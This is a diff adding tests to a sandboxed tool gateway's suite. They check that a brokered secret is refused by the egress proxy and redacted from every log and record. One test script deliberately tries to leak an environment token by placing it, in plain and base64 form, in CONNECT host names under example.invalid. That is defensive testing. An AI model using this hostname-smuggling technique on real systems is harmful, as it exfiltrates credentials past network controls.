@@ -5,6 +5,7 @@ import type { IncomingHttpHeaders, Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { canonicalJson, sha256Hex } from '../../src/core/index.js';
 import type { InvocationRecord } from '../../src/invocation/index.js';
 import { SANDBOX_ID_INSIDE } from '../../src/sandbox/index.js';
 import { call, startDemoGateway } from '../helpers/gateway-fixture.js';
@@ -31,6 +32,8 @@ interface ShellOutput {
 /** Our own secret, with characters a URL encoder changes, so every encoding differs. */
 const SECRET = `gh/${randomBytes(12).toString('hex')}:q+z`;
 const CANARY = `canary-${randomBytes(8).toString('hex')}`;
+/** A secret that is a valid host-name label, in mixed case: the proxy records it lower-cased. */
+const HOST_SECRET = `Gh-${randomBytes(10).toString('hex')}-XyZ`;
 const DEFAULT_EGRESS = ['github.com', 'dev.azure.com', 'api.nuget.org'];
 
 let g: DemoGateway;
@@ -58,7 +61,16 @@ beforeAll(async () => {
     body: { value: SECRET, scopes: ['test'] },
   });
   expect(put.status).toBe(200);
+  const hostPut = await g.inject('PUT', '/v1/secrets/host-token', {
+    token: g.tokens.admin,
+    body: { value: HOST_SECRET, scopes: ['test'] },
+  });
+  expect(hostPut.status).toBe(200);
   agent = await publishAgent(g, 'sandbox-calls-agent', [
+    shTool('test/host-sh', {
+      sandbox: { egress: [`127.0.0.1:${port}`] },
+      credentials: [{ ref: 'host-token', scope: 'test', inject: { env: 'HOST_TOKEN' } }],
+    }),
     shTool('test/secret-sh', {
       credentials: [{ ref: 'test-token', scope: 'test', inject: { env: 'TEST_TOKEN' } }],
     }),
@@ -224,6 +236,73 @@ describe('a brokered secret', () => {
     const creds = r.lease?.credentials as Record<string, unknown>[];
     expect(creds.map((c) => Object.keys(c).sort())).toEqual([['expiresAt', 'id', 'ref', 'scope']]);
     expect(creds.map((c) => [c.ref, c.scope])).toEqual([['test-token', 'test']]);
+  });
+});
+
+describe('a brokered secret sent through the egress proxy', () => {
+  it('is removed from the egress log, trace, record, receipt and audit log, in any case and as base64', async () => {
+    // Each request names the secret as the host (plain, as a subdomain, malformed, as base64url);
+    // the proxy refuses them all and logs what it saw, lower-cased where it parsed a name.
+    const script = [
+      `python3 - <<'EOF'`,
+      'import base64, os, socket',
+      "t = os.environ['HOST_TOKEN']",
+      "b = base64.urlsafe_b64encode(t.encode()).decode().rstrip('=')",
+      "for target in [t + ':443', t + '.example.invalid:443', t + '!:443', 'x.' + b + '.example.invalid:443']:",
+      "    s = socket.create_connection(('127.0.0.1', 3128))",
+      "    s.sendall(('CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (target, target)).encode())",
+      "    print(s.recv(100).split(b' ')[1].decode())",
+      '    s.close()',
+      'EOF',
+      // base64 wrapped at 76 columns with the value across the line break.
+      '(printf "x%.0s" $(seq 50); printf %s "$HOST_TOKEN") | base64',
+    ].join('\n');
+    const r = await run('test/host-sh', script);
+    expect(r.status, JSON.stringify(r.error)).toBe('observed');
+    expect(outputOf(r).stdout).toMatch(/^403\n403\n400\n403\n/);
+    const marker = '[REDACTED:brokered:host-token]';
+    expect(r.egress.map((e) => [e.method, e.host, e.port, e.allowed])).toEqual([
+      ['CONNECT', marker, 443, false],
+      ['CONNECT', `${marker}.example.invalid`, 443, false],
+      ['CONNECT', '', 0, false],
+      ['CONNECT', `x.${marker}.example.invalid`, 443, false],
+    ]);
+    for (const e of r.egress) expect(e.reason).toContain(marker);
+    const execute = r.trace.find((t) => t.stage === 'execute');
+    expect(execute?.details).toEqual({ egress: r.egress });
+
+    const bytes = Buffer.from(HOST_SECRET, 'utf8');
+    const wrapped = Buffer.concat([Buffer.from('x'.repeat(50)), bytes]).toString('base64');
+    const forms = [
+      HOST_SECRET,
+      bytes.toString('base64url').replace(/=+$/, ''),
+      wrapped.slice(68, 76),
+      wrapped.slice(76, 84),
+    ].map((f) => f.toLowerCase());
+    const stored = await g.inject<InvocationRecord>('GET', `/v1/invocations/${r.id}`, {
+      token: g.tokens.operator,
+    });
+    const { predicate, envelope } = await verifiedReceipt(g, r.id);
+    const payload = Buffer.from((envelope as { payload: string }).payload, 'base64').toString();
+    expect(predicate.egress).toEqual(r.egress);
+    const places: [string, string][] = [
+      ['response', JSON.stringify(r)],
+      ['stored record', JSON.stringify(stored.body)],
+      ['audit records', auditText(g)],
+      ['receipt payload', payload],
+    ];
+    for (const [where, text] of places)
+      for (const form of forms)
+        expect(text.toLowerCase().includes(form), `${form} in the ${where}`).toBe(false);
+  });
+
+  it('leaves the digest of the full output as the tool wrote it, before redaction', async () => {
+    const r = await run('test/secret-sh', 'echo "plain=$TEST_TOKEN"');
+    const output = outputOf(r);
+    expect(output.stdout).toBe('plain=[REDACTED:brokered:test-token]\n');
+    const full = { ...output, stdout: `plain=${SECRET}\n` };
+    expect(r.outputInfo?.sha256Full).toBe(sha256Hex(canonicalJson(full)));
+    expect(r.outputInfo?.sha256Sanitized).toBe(sha256Hex(canonicalJson(output)));
   });
 });
 
